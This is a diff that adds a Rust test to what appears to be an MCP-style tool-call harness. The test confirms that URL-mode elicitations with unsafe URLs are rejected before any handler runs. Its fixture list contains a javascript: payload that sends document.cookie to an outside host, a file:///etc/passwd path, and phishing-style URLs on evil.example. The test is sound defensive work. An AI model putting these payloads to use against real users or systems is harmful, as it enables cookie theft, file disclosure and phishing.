@@ -1184,6 +1184,44 @@ async fn item_06_undeclared_methods_and_modes_end_the_call_before_any_handler() 
     h.shutdown().await;
 }
 
+// A URL-mode elicitation whose URL no one should open (another scheme, credentials,
+// plain HTTP to another host) never reaches a handler that declared the mode.
+#[tokio::test]
+async fn item_06_a_url_mode_elicitation_with_a_url_no_one_should_open_reaches_no_handler() {
+    let (handler, seen) = counting(json!({"form": {}, "url": {}}));
+    let h = start_ready_with(
+        Harness::builder(config(vec![demo_server("m", &[])]))
+            .input_handler("elicitation/create", handler),
+    )
+    .await;
+    for bad in [
+        "javascript:fetch('//x/'+document.cookie)",
+        "file:///etc/passwd",
+        "https://bank.example@evil.example/",
+        "http://evil.example/sign-in",
+    ] {
+        let err = h
+            .call_tool(
+                &a(),
+                "m__many_inputs",
+                json!({"n": 1, "mode": "url", "url": bad}),
+            )
+            .await
+            .expect_err(bad);
+        assert!(
+            matches!(err, CallError::InputRejected { .. }),
+            "{bad}: {err}"
+        );
+    }
+    assert_eq!(seen.load(Ordering::SeqCst), 0);
+    // A web page is handed on.
+    let _ = h
+        .call_tool(&a(), "m__many_inputs", json!({"n": 1, "mode": "url"}))
+        .await;
+    assert_eq!(seen.load(Ordering::SeqCst), 1);
+    h.shutdown().await;
+}
+
 #[tokio::test]
 async fn item_06_fixed_answers_never_accept_a_url_mode_elicitation_on_their_own() {
     for (handler, expected) in [
